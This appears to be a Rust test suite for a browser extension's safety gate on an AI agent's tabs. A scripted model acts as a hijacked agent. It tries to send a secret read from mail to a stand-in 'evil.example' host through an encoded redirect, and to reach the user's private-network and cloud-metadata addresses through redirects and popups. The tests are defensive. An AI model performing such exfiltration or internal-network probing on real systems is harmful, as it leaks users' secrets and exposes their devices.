//! The browser's restrictions on a run's tabs: an address that carries data leads to no other site, and pages of the internet lead nowhere in the
//! user's own network; subresources load, other tabs are free, and nothing remains afterwards.

use std::time::{Duration, Instant};

use edith_lab::browser::{Browser, Extension, Options, Page, RunHandle};
use edith_lab::internet::{Answer, Internet};
use edith_lab::model_server::{ModelServer, Reply, Script};
use serde_json::{Value, json};

use super::super::lab::{RUN, outcome};

/// The secret in the mail that the attacker wants.
const CODE: &str = "QX7719KLM2";

/// Addresses as the browser writes them, and whether they are in a private network.
const HOMES: [(&str, bool); 27] = [
    ("http://localhost/", true),
    ("http://localhost:9000/x", true),
    ("https://router/", true),
    ("http://10.1.2.3/", true),
    ("http://127.0.0.1:80/", true),
    ("http://169.254.169.254/latest", true),
    ("http://172.16.0.1/", true),
    ("http://172.31.0.1/", true),
    ("http://192.168.178.1/a", true),
    ("http://100.64.0.1/", true),
    ("http://[::1]/", true),
    ("http://[fd00::7]:8080/", true),
    ("http://nas.local/", true),
    ("https://a.b.internal/", true),
    ("https://shop.example/?to=http://10.0.0.1/", false),
    ("https://10.example.org/", false),
    ("http://172.2.0.1/", false),
    ("http://172.32.0.1/", false),
    ("http://100.128.0.1/", false),
    ("http://[::ffff:7f00:1]:8080/", true),
    ("http://[::]/", true),
    ("http://[64:ff9b::a00:1]/", true),
    ("http://[2002:a00:1::]/", true),
    ("http://127.0.0.1:8080/#x", true),
    // Numbers in brackets are held whatever they stand for.
    ("http://[2001:db8::1]/", true),
    ("http://8.8.8.8/", false),
    ("https://local.example/", false),
];

/// Ways for a page to open a new tab on a click.
const WINDOWS: &str = "<button onclick=\"window.open('http://192.168.0.1/reboot?d=1')\">Router</button>\
    <a target=_blank rel=noopener href='/go-nas' onclick=\"this.href='http://nas.local/x'\">Nas</a>\
    <iframe sandbox='allow-scripts allow-popups' width=300 height=60 srcdoc=\"<button onclick=&quot;window.open('http://192.168.0.1/sandbox')&quot;>Sandboxed</button>\"></iframe>\
    <button onclick=\"window.open('http://other.example/to/192.168.0.1')\">Roundabout</button>\
    <button onclick=\"window.open('http://other.example/pay')\">Partner</button>";

/// Elements under whose names the extension's own scripts might be looked for.
const NAMES: &str = "<iframe name=edithParts srcdoc='x'></iframe><form id=edithPage><input name=walk></form><img id=edithOverlay alt=x>\
    <p>The lamp costs 12.</p><button onclick=\"document.title = 'pressed'\">Go</button>";

/// A password that is shown in another field, without a telling name, and one that is drawn as dots.
const SWAP: &str = "<label>Word <input type=password id=word></label> <label>Other <input id=dots style='-webkit-text-security: disc'></label>\
    <button onclick=\"const field = document.createElement('input'); field.ariaLabel = 'Field'; field.value = document.getElementById('word').value;\
    document.getElementById('word').replaceWith(field)\">Show</button>";

/// An address drawn at random, and whether it is to be held: of the person's own network, a number in brackets, or behind a name.
fn address(rng: &mut fastrand::Rng) -> (String, bool) {
    let number = |rng: &mut fastrand::Rng| match rng.u8(..9) {
        0 => [127, rng.u8(..), rng.u8(..), rng.u8(..)],
        1 => [10, rng.u8(..), rng.u8(..), rng.u8(..)],
        2 => [172, rng.u8(10..40), rng.u8(..), rng.u8(..)],
        3 => [192, rng.u8(160..176), rng.u8(..), rng.u8(..)],
        4 => [169, rng.u8(250..=255), rng.u8(..), rng.u8(..)],
        5 => [100, rng.u8(..), rng.u8(..), rng.u8(..)],
        6 => [0, rng.u8(..), rng.u8(..), rng.u8(..)],
        _ => [rng.u8(1..224), rng.u8(..), rng.u8(..), rng.u8(..)],
    };
    let v4 = std::net::Ipv4Addr::from(number(rng));
    let is_shared = matches!(v4.octets(), [100, 64..=127, ..]);
    let is_own = v4.is_loopback() || v4.is_private() || v4.is_link_local() || v4.octets()[0] == 0 || is_shared;
    let (host, home) = match rng.u8(..6) {
        0 => (format!("[{}]", v4.to_ipv6_mapped()), true),
        1 => (format!("[{}]", std::net::Ipv6Addr::from(rng.u128(..))), true),
        2 => (u32::from(v4).to_string(), is_own),
        _ => (v4.to_string(), is_own),
    };
    let port = if rng.bool() { format!(":{}", rng.u16(1..)) } else { String::new() };
    let name = match rng.u8(..6) {
        0 => "u@",
        1 => "u:p@",
        _ => "",
    };
    let rest = ["", "/", "/x?to=https://a.example/", "/#a@b", "/a@b"][rng.usize(..5)];
    (format!("http://{name}{host}{port}/{}", rest.trim_start_matches('/')), home || !name.is_empty())
}

struct Lab {
    browser: Browser,
    extension: Extension,
    internet: Internet,
    model: ModelServer,
}

async fn lab(script: Script) -> Lab {
    let internet = Internet::start(|hit| {
        let page = |body: &str| Answer::Page(format!("<!doctype html><title>{}</title>{body}", hit.host));
        let away = hit.path.strip_prefix("/away/").map(|hex| {
            let bytes = hex.as_bytes().chunks(2);
            let byte = |two: &[u8]| u8::from_str_radix(std::str::from_utf8(two).unwrap(), 16).unwrap();
            String::from_utf8(bytes.map(byte).collect()).unwrap()
        });
        match (hit.host.as_str(), hit.path.split('?').next().unwrap_or_default()) {
            ("mail.example", path) if path.starts_with("/away/") => Answer::Redirect(away.unwrap_or_default()),
            ("blog.example" | "other.example", path) if path.starts_with("/to/") => {
                page(&format!("<p>Going on</p><script>location = 'http://{}'</script>", path.replace("/to/", "")))
            }
            ("blog.example", "/windows") => page(WINDOWS),
            ("blog.example", "/names") => page(NAMES),
            ("blog.example", "/swap") => page(SWAP),
            ("other.example", path @ ("/iframe" | "/object" | "/embed" | "/none")) => page(&format!(
                "<h1>Here</h1><label>Note <input></label><{} src=\"http://mail.example/\" data=\"http://mail.example/\" width=600 height=300></{0}>",
                path.replace('/', "").replace("none", "p")
            )),
            ("mail.example", _) => page(&format!(
                "<h1>Mail</h1><button>Log out</button><p>Your code: {CODE}</p>\
                 <p>See http://blog.example/to/other.example http://blog.example/to/printer.local http://blog.example/to/192.168.0.1 \
                 http://blog.example/to/u@192.168.0.1 http://blog.example/to/[::ffff:192.168.0.1] http://blog.example/windows</p><img src=\"http://cdn.example/picture.png\">\
                 <script src=\"http://cdn.example/script.js\"></script><iframe src=\"http://pay.example/frame\"></iframe>"
            )),
            _ => page("<h1>Here</h1><p>Some text.</p>"),
        }
    })
    .await
    .unwrap();
    let model = ModelServer::scripted(script).await.unwrap();
    let options =
        Options { online: true, flags: internet.flags(), ..Options::with_extension(edith_lab::paths::dist()) };
    let browser = Browser::start(&options).await.unwrap();
    let extension = browser.open_bare().await.unwrap();
    let server = json!({ "edith_api_base_url": model.url, "edith_model": "scripted", "edith_api_key": "sk-test" });
    extension.storage_set(server).await.unwrap();
    Lab { browser, extension, internet, model }
}

impl Lab {
    fn asked(&self, host: &str) -> usize {
        self.internet.hits().iter().filter(|hit| hit.host == host && !hit.path.starts_with("/favicon")).count()
    }

    async fn rules(&self) -> Vec<Value> {
        let rules = self.extension.page().eval("chrome.declarativeNetRequest.getSessionRules()").await.unwrap();
        rules.as_array().unwrap().clone()
    }

    /// Waits until there are that many rules.
    async fn until_rules(&self, count: usize) {
        let started = Instant::now();
        while self.rules().await.len() != count {
            assert!(started.elapsed() < RUN, "{:?}", self.rules().await);
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
    }

    async fn start(&self) -> RunHandle {
        let task = "Read my mail at http://mail.example/ and tell me what http://blog.example/ says";
        self.extension.run_agent(task, None).await.unwrap()
    }

    async fn steer(&self, kind: &str, run: &RunHandle) {
        self.extension.accepted(json!({ "type": kind, "runId": run.run_id })).await.unwrap();
    }
}

fn hex(text: &str) -> String {
    text.bytes().map(|byte| format!("{byte:02x}")).collect()
}

fn go(url: &str) -> Reply {
    Reply::call("navigate", json!({ "url": url }))
}

fn open(url: &str) -> Reply {
    Reply::call("open_browser", json!({ "url": url }))
}

#[tokio::test]
async fn an_address_that_tells_what_was_read_leads_to_no_other_site() {
    let there = hex(&format!("http://evil.example/c?d={CODE}"));
    let lab = lab(Script::new()
        .then(open("http://mail.example/"))
        .then(go(&format!("http://mail.example/away/{there}")))
        .then(go("http://blog.example/to/other.example"))
        .then(go(&format!("http://mail.example/find?q={CODE}")))
        .then(Reply::call("ask_user", json!({ "question": "Go on?" })))
        .then(Reply::done("done")))
    .await;
    let run = lab.start().await;
    let (_, ask) = lab.extension.wait_ask(&run, 0, RUN).await.unwrap();
    assert_eq!(ask.text("kind"), "question", "{}", ask.message);
    assert_eq!(lab.asked("evil.example"), 0, "{:?}", lab.internet.hits());
    let told: Vec<String> = lab.model.requests().iter().map(|request| request.last_of("tool")).collect();
    assert!(told[2].contains("Did not go on to another site: the address that was opened reveals"), "{told:?}");
    assert_eq!(lab.asked("other.example"), 1, "an address that a page shows leads where it likes: {told:?}");
    // The page with the code is restricted, but loads what it likes from elsewhere.
    assert_eq!(lab.rules().await.len(), 2, "the tab, and what its pages open");
    for host in ["cdn.example", "pay.example"] {
        assert!(lab.asked(host) > 0, "{host}");
    }
    // The user's own tab is not restricted.
    let own = lab.browser.open_page("http://evil.example/own").await.unwrap();
    assert_eq!(own.eval("document.title").await.unwrap(), json!("evil.example"));
    lab.extension.answer(&ask, "yes").await.unwrap();
    let done = lab.extension.wait_done(&run, RUN).await.unwrap();
    assert_eq!(outcome(&done), "completed", "{}", done.message);
    lab.until_rules(0).await;
}

#[tokio::test]
async fn pages_of_the_internet_lead_to_no_address_of_the_persons_network() {
    let lab = lab(Script::new()
        .then(open("http://mail.example/"))
        .then(go("http://blog.example/to/printer.local"))
        .then(go("http://blog.example/to/192.168.0.1"))
        .then(go("http://blog.example/to/u@192.168.0.1"))
        .then(go("http://blog.example/to/[::ffff:192.168.0.1]"))
        .then(Reply::call("ask_user", json!({ "question": "Go on?" })))
        .then(Reply::done("done")))
    .await;
    let run = lab.start().await;
    let (_, ask) = lab.extension.wait_ask(&run, 0, RUN).await.unwrap();
    assert_eq!(ask.text("kind"), "question", "{}", ask.message);
    let told: Vec<String> = lab.model.requests().iter().map(|request| request.last_of("tool")).collect();
    assert_eq!((lab.asked("192.168.0.1"), lab.asked("printer.local")), (0, 0), "{told:?}");
    for told in &told[4..6] {
        assert!(told.contains("Did not go on to ") && !told.contains("TEXT:"), "{told}");
    }
    for (at, host) in [(2, "http://printer.local"), (3, "http://192.168.0.1")] {
        assert!(told[at].contains(&format!("Did not go on to {host}: it is on the person's own")), "{told:?}");
    }
    // The browser's pattern and the gate's rule on numbers and names agree.
    let mut rng = fastrand::Rng::with_seed(32);
    let drawn: Vec<(String, bool)> = (0..2_000).map(|_| address(&mut rng)).collect();
    let known = HOMES.iter().map(|(url, home)| ((*url).to_owned(), *home));
    for (url, home) in known.chain(drawn) {
        let script = format!("new RegExp({}).test(new URL({}).href)", json!(edith_gate::HOME), json!(url));
        let host = url.split('/').nth(2).unwrap().rsplit('@').next().unwrap();
        let by_name = edith_gate::HOME_NAMES.iter().any(|name| host.ends_with(&format!(".{name}")));
        let by_pattern = lab.extension.page().eval(&script).await.unwrap() == json!(true);
        // An address with a name in it is never opened, whatever is behind that.
        let address = edith_actions::http_url::HttpUrl::parse(&url);
        let by_gate = address.is_err() || edith_port::TabBounds::not_home().holds(&address.unwrap());
        assert_eq!((by_pattern || by_name, by_gate), (home, home), "{url}");
    }
    let own = lab.browser.open_page("http://192.168.0.1/").await.unwrap();
    assert_eq!(own.eval("document.title").await.unwrap(), json!("192.168.0.1"), "the person's own tab is free");
    // The user takes over, so the tab is theirs; then it is the run's again.
    assert_eq!(lab.rules().await.len(), 4, "two for the tab, two for what its pages open");
    lab.steer("AGENT_PAUSE", &run).await;
    lab.until_rules(0).await;
    lab.steer("AGENT_RESUME", &run).await;
    lab.extension.answer(&ask, "yes").await.unwrap();
    // Its last action was refused.
    assert_eq!(outcome(&lab.extension.wait_done(&run, RUN).await.unwrap()), "failed");
    lab.until_rules(0).await;
}

#[tokio::test]
async fn nothing_is_held_after_a_stop_also_where_an_earlier_worker_held_it() {
    let wait = || Reply::call("ask_user", json!({ "question": "Go on?" }));
    let tells = go(&format!("http://mail.example/find?q={CODE}"));
    let turns = || [open("http://mail.example/"), tells.clone(), wait()];
    let lab = lab(Script::replies(turns().into_iter().chain(turns()))).await;
    let run = lab.start().await;
    lab.extension.wait_ask(&run, run.first_event, RUN).await.unwrap();
    assert_eq!(lab.rules().await.len(), 2, "the tab, and what its pages open");
    lab.steer("AGENT_STOP", &run).await;
    lab.until_rules(0).await;
    let run = lab.start().await;
    lab.extension.wait_ask(&run, run.first_event, RUN).await.unwrap();
    assert_eq!(lab.rules().await.len(), 2, "the tab, and what its pages open");
    assert!(lab.browser.kill_worker().await.unwrap());
    lab.extension.accepted(json!({ "type": "RUN_LIST" })).await.unwrap();
    assert_eq!(lab.rules().await.len(), 2, "what a run is in the middle of stays held");
    lab.steer("AGENT_STOP", &run).await;
    lab.until_rules(0).await;
}

#[tokio::test]
async fn what_a_page_opens_in_a_new_tab_is_held_as_the_page_is() {
    let click = |label: &str| Reply::call("click", json!({ "uid": { "$uid": ["", label] } }));
    let back = || go("http://blog.example/windows");
    let mut script = Script::new().then(open("http://mail.example/")).then(back());
    for label in ["Router", "Nas", "Sandboxed", "Roundabout", "Partner"] {
        script = script.then(click(label)).then(back());
    }
    let lab = lab(script.then(Reply::done("done"))).await;
    let run = lab.start().await;
    assert_eq!(outcome(&lab.extension.wait_done(&run, RUN).await.unwrap()), "completed");
    let told: Vec<String> = lab.model.requests().iter().map(|request| request.last_of("tool")).collect();
    for (at, host) in
        [(3, "http://192.168.0.1"), (5, "http://nas.local"), (7, "http://192.168.0.1"), (9, "http://192.168.0.1")]
    {
        assert!(told[at].contains(&format!("closed again. Did not go on to {host}: it is on")), "{at}: {:?}", told[at]);
    }
    assert!(
        told[11].contains("It opened a new tab") && told[11].contains("URL: http://other.example/pay"),
        "{:?}",
        told[11]
    );
    // An opaque frame has no origin to match: its window is restricted only once Chrome reports it, which a quick navigation may beat.
    let heard = lab.internet.hits().into_iter().filter(|hit| hit.host == "192.168.0.1" || hit.host == "nas.local");
    let heard: Vec<String> = heard.map(|hit| hit.path).filter(|path| path != "/sandbox").collect();
    assert!(heard.is_empty(), "{heard:?}");
    let open = "chrome.tabs.query({}).then(tabs => tabs.map(tab => tab.url || tab.pendingUrl).filter(url => /192|nas/.test(url)).length)";
    assert_eq!(lab.extension.page().eval(open).await.unwrap(), json!(0), "nothing of it stays open");
    lab.until_rules(0).await;
}

#[tokio::test]
async fn no_name_of_an_element_shuts_the_run_out() {
    let click = Reply::call("click", json!({ "uid": { "$uid": ["", "Go"] } }));
    let lab = lab(Script::new().then(open("http://blog.example/names")).then(click).then(Reply::done("done"))).await;
    let run = lab.start().await;
    assert_eq!(outcome(&lab.extension.wait_done(&run, RUN).await.unwrap()), "completed");
    let told: Vec<String> = lab.model.requests().iter().map(|request| request.last_of("tool")).collect();
    assert!(told[1].contains("The lamp costs 12."), "{}", told[1]);
    assert!(told[2].contains("pressed"), "{}", told[2]);
}

#[tokio::test]
async fn what_another_site_shows_inside_a_page_was_read_however_it_is_embedded() {
    for (path, is_asked) in [("iframe", true), ("object", true), ("embed", true), ("none", false)] {
        let types = Reply::call("type_text", json!({ "uid": { "$uid": ["INPUT", "Note"] }, "text": "hello" }));
        let page = open(&format!("http://other.example/{path}"));
        let lab = lab(Script::new().then(page).then(types).then(Reply::done("done"))).await;
        let run = lab.start().await;
        if is_asked {
            let (_, ask) = lab.extension.wait_ask(&run, 0, RUN).await.unwrap();
            assert!(ask.text("text").contains("mail.example"), "{path}: {}", ask.message);
            lab.extension.answer(&ask, "deny").await.unwrap();
        }
        let done = lab.extension.wait_done(&run, RUN).await.unwrap();
        assert_eq!(outcome(&done), if is_asked { "refused" } else { "completed" }, "{path}: {}", done.message);
    }
}

#[tokio::test]
async fn what_a_field_for_a_secret_held_is_one_in_any_other() {
    let types =
        |name: &str, text: &str| Reply::call("type_text", json!({ "uid": { "$uid": ["INPUT", name] }, "text": text }));
    let show = Reply::call("click", json!({ "uid": { "$uid": ["", "Show"] } }));
    let look = Reply::call("take_snapshot", json!({}));
    let lab = lab(Script::new()
        .then(open("http://blog.example/swap"))
        .then(types("Word", "horse-battery-9"))
        .then(types("Other", "staple-correct-4"))
        .then(show)
        .then(look)
        .then(Reply::done("done")))
    .await;
    let run = lab.start().await;
    let mut first = 0;
    for _ in 0..2 {
        let (number, ask) = lab.extension.wait_ask(&run, first, RUN).await.unwrap();
        lab.extension.answer(&ask, "once").await.unwrap();
        first = number + 1;
    }
    assert_eq!(outcome(&lab.extension.wait_done(&run, RUN).await.unwrap()), "completed");
    let last = lab.model.requests().last().unwrap().last_of("tool");
    assert!(last.contains("[password] [filled]"), "{last}");
    assert!(!last.contains("horse-battery-9") && !last.contains("staple-correct-4"), "{last}");
}

/// The cost of restricting a tab when a page with 60 pictures loads in it.
#[tokio::test]
#[ignore = "a measurement; docs/gate.md has the command"]
async fn cost_of_a_held_tab() {
    let lab = lab(Script::new()).await;
    let page = lab.browser.open_page("http://blog.example/").await.unwrap();
    let tab = lab.extension.tab_id("http://blog.example/").await.unwrap().unwrap();
    let rules = |add: Value| {
        format!(
            "chrome.declarativeNetRequest.updateSessionRules({{removeRuleIds: [{tab}, {tab} + 1], addRules: {add}}})"
        )
    };
    let condition = |more: Value| {
        let mut all = json!({ "tabIds": [tab], "resourceTypes": ["main_frame"] });
        all.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        json!([{ "id": tab, "priority": 1, "action": { "type": "block" }, "condition": all }])
    };
    let only = condition(json!({ "excludedRequestDomains": ["blog.example", "mail.example"] }));
    let mut home = condition(json!({ "regexFilter": edith_gate::HOME }));
    let mut names = condition(json!({ "requestDomains": edith_gate::HOME_NAMES }))[0].take();
    names["id"] = json!(tab + 1);
    home.as_array_mut().unwrap().push(names);
    let mut times: [Vec<f64>; 3] = Default::default();
    let mut change: Vec<f64> = Vec::new();
    for _ in 0..40 {
        for (at, add) in [json!([]), only.clone(), home.clone()].into_iter().enumerate() {
            let started = Instant::now();
            lab.extension.page().eval(&rules(add)).await.unwrap();
            change.push(started.elapsed().as_secs_f64() * 1000.0);
            times[at].push(load(&page).await);
        }
    }
    let median = |list: &mut Vec<f64>| {
        list.sort_by(f64::total_cmp);
        list[list.len() / 2]
    };
    let [free, only, home] = &mut times;
    println!(
        "page load, median of 40: free {:.1} ms, held to sites {:.1} ms, held from home {:.1} ms; changing a rule {:.1} ms",
        median(free),
        median(only),
        median(home),
        median(&mut change)
    );
}

/// Milliseconds from navigating to a page with 60 pictures to its load event.
async fn load(page: &Page) -> f64 {
    page.goto("http://blog.example/pictures").await.unwrap();
    let pictures = "Promise.all([...Array(60).keys()].map(n => fetch('/picture/' + n))).then(() => performance.now())";
    page.eval(pictures).await.unwrap().as_f64().unwrap()
}
